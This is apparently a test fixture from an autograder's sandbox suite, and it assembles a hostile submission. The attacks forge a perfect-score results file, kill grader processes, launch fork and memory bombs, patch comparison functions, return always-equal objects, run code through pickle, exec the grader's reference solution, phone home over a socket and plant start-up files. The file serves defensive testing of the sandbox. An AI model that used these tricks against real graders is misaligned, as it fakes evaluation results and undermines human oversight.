"""Source of a hostile submission: the reference with attacks appended to some modules.

Each attack redefines one contract function. ``TOKEN`` marks every file an attack tries to
create; ``RESULTS`` is the real results path and ``__PROJECT__`` the grader's folder (an
attacker's best case: it knows both).
"""
from tests.submissions import flat_source

PRELUDE = '''
import atexit, json, os, signal, socket, sys, time
FORGED = json.dumps({"score": 100.0, "execution_time": 1, "output": "forged", "visibility": "visible",
                      "stdout_visibility": "visible", "tests": []})
RESULTS = __RESULTS__
TOKEN = __TOKEN__


def _results_paths():
    paths = {RESULTS, "/autograder/results/results.json"}
    try:
        pids = os.listdir("/proc")
    except OSError:  # Landlock hides /proc: the known paths are still worth a try
        pids = []
    for pid in pids:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--results":
                paths.add(argv[i + 1].decode())
    return paths


def _forge():
    for path in _results_paths():
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass
'''

ATTACKS = {
    "divergences": '''
def kl_conjugate(t):  # a forged results.json
    _forge()
    return t * 0 + 12345.0


def nwj_bound(t_p, t_q):  # an atexit hook that forges the results
    atexit.register(_forge)
    return t_p.sum() * 0 + 12345.0


def dv_bound(t_p, t_q):  # leave without a word
    os._exit(0)


def kl_discrete(p, q):  # try to kill the grader
    try:
        pids = os.listdir("/proc")
    except OSError:  # Landlock hides /proc: the parent is still worth a try
        pids = []
    for pid in pids:
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"autograder" in cmdline and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return p.sum(-1) * 0 + 12345.0


def js_discrete(p, q):  # right values, but the inputs are zeroed in place
    m = 0.5 * (p + q)
    value = 0.5 * (torch.xlogy(p, p) - torch.xlogy(p, m)).sum(-1) + 0.5 * (torch.xlogy(q, q) - torch.xlogy(q, m)).sum(-1)
    p.zero_()
    q.zero_()
    return value


def wasserstein_1d(x, y):  # phone home
    try:
        socket.create_connection(("127.0.0.1", __PORT__), timeout=2).sendall(TOKEN.encode())
    except OSError:
        pass
    return x.sum() * 0 + 12345.0
''',
    "gan": '''
class _Cheat(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def discriminator_loss(real_logits, fake_logits):  # a tensor subclass that says "equal"
    return torch.tensor(12345.0).as_subclass(_Cheat)


class _AlwaysEqual:
    def __eq__(self, other):
        return True


def generator_loss_minimax(fake_logits):  # an object equal to anything
    return _AlwaysEqual()


def generator_loss_nonsaturating(fake_logits):  # monkeypatched comparison helpers
    import numpy
    import torch.testing
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    numpy.allclose = lambda *a, **k: True
    return fake_logits.sum() * 0 + 12345.0


def generator_loss_ml(fake_logits):  # never returns
    while True:
        pass
''',
    "gmvae": '''
def log_normal_mixture(z, means, logvars):  # a memory bomb
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))


def gmvae_kl_estimate(z, q_mu, q_logvar, prior_means, prior_logvars):  # a bounded fork bomb
    children = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            children += 1
        except OSError:
            break
    return z.sum(-1) * 0 + children
''',
    "discriminator": '''
def optimal_discriminator(log_p_data, log_p_model):  # 100 MB of output
    chunk = "x" * (1 << 20)
    for _ in range(100):
        sys.stdout.write(chunk)
    sys.stdout.flush()
    return log_p_data * 0 + 12345.0


class _Evil:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/{TOKEN}-reduce",))


def log_density_from_discriminator(log_f0, d):  # an object that runs code when unpickled
    return _Evil()
''',
    "pixelcnn": '''
def causal_mask(kernel_size, mask_type):  # read the grader's reference (its path known) and use it
    for top in ("/autograder/source", __PROJECT__):
        for folder, dirs, files in os.walk(top):
            if "pixelcnn.py" in files and not folder.startswith(os.getcwd()):
                try:
                    source = open(os.path.join(folder, "pixelcnn.py")).read()
                except OSError:
                    continue
                namespace = {}
                exec(source, namespace)
                open(f"/tmp/{TOKEN}-read-reference", "w").close()
                return namespace["causal_mask"](kernel_size, mask_type)
    return torch.ones(kernel_size, kernel_size)


def receptive_field(model, in_channels, height, width, row, col):  # a daemon that keeps forging
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(600):
                _forge()
                time.sleep(0.1)
        os._exit(0)
    return torch.ones(height, width, dtype=torch.bool)
''',
    "wake_sleep": '''
def aevb_step(x, encoder, decoder, opt, *, n_samples=1, eps=None):  # files outside the sandbox
    for folder in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/", __PROJECT__):
        try:
            open(os.path.join(folder, f"{TOKEN}-stray"), "w").close()
        except OSError:
            pass
    return 12345.0
''',
}

IMPORT_ATTACKS = {
    "vae": "torch.manual_seed(0)\n",  # seeding torch's generator changes nothing tested
    "bigan": "import sys\nsys.exit(0)\n",  # leave at import
}

PLANTED = {  # start-up files that must never be loaded
    "sitecustomize.py": "open('/tmp/__TOKEN__-sitecustomize', 'w').close()\n",
    "usercustomize.py": "open('/tmp/__TOKEN__-usercustomize', 'w').close()\n",
    "conftest.py": "open('/tmp/__TOKEN__-conftest', 'w').close()\n",
    "torch.py": "open('/tmp/__TOKEN__-torch', 'w').close()\nraise SystemExit\n",
    "numpy.py": "open('/tmp/__TOKEN__-numpy', 'w').close()\n",
    "evil.pth": "import os; open('/tmp/__TOKEN__-pth', 'w').close()\n",
}

ATTACKED = {"divergences.kl_conjugate", "divergences.nwj_bound", "divergences.dv_bound", "divergences.kl_discrete",
            "divergences.js_discrete", "divergences.wasserstein_1d", "gan.discriminator_loss",
            "gan.generator_loss_minimax", "gan.generator_loss_nonsaturating", "gan.generator_loss_ml",
            "gmvae.log_normal_mixture", "gmvae.gmvae_kl_estimate", "discriminator.optimal_discriminator",
            "discriminator.log_density_from_discriminator", "pixelcnn.causal_mask", "pixelcnn.receptive_field",
            "wake_sleep.aevb_step", "bigan.bigan_discriminator_loss", "bigan.bigan_generator_encoder_loss",
            "bigan.bigan_step"}
# graded normally, but calling an attacked function of their own module
COLLATERAL = {"gan.gan_step", "pixelcnn.MaskedConv2d"}


def hostile_sources(results, token, port, project):
    """{module: source} of the hostile submission's modules."""
    values = {"__RESULTS__": repr(str(results)), "__TOKEN__": repr(token), "__PORT__": str(port),
              "__PROJECT__": repr(str(project))}

    def fill(text):
        for placeholder, value in values.items():
            text = text.replace(placeholder, value)
        return text

    sources = {module: flat_source(module) + fill(PRELUDE + attack) for module, attack in ATTACKS.items()}
    for module, line in IMPORT_ATTACKS.items():
        sources[module] = "import torch\n" + line + flat_source(module)
    return sources


def planted_files(token):
    return {name: text.replace("__TOKEN__", token) for name, text in PLANTED.items()}
